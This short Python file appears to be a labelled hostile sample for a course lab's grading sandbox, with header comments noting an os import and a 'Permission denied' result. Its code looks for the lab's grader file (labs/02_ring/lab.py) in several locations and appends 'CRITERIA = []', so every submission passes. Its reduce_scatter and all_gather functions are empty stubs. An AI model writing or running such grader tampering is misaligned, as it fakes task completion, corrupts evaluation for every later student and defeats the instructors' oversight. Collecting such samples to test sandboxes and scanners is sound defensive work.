# hostile: appends to the lab's grader so that it passes this file and every later student's
# lab: 02
# scan: import of os
# sandbox: Permission denied
import os

import numpy as np

here = "/".join(__file__.split("/")[:-1])
for root in ("/work/main", os.environ.get("PYTHONPATH", ""), here):
    path = os.path.join(root, "labs", "02_ring", "lab.py")
    if os.path.exists(path):
        with open(path, "a") as f:
            f.write("\nCRITERIA = []\n")


def reduce_scatter(g, x, op="sum"):
    return np.zeros(0)


def all_gather(g, piece, sizes=None):
    return np.zeros(0)
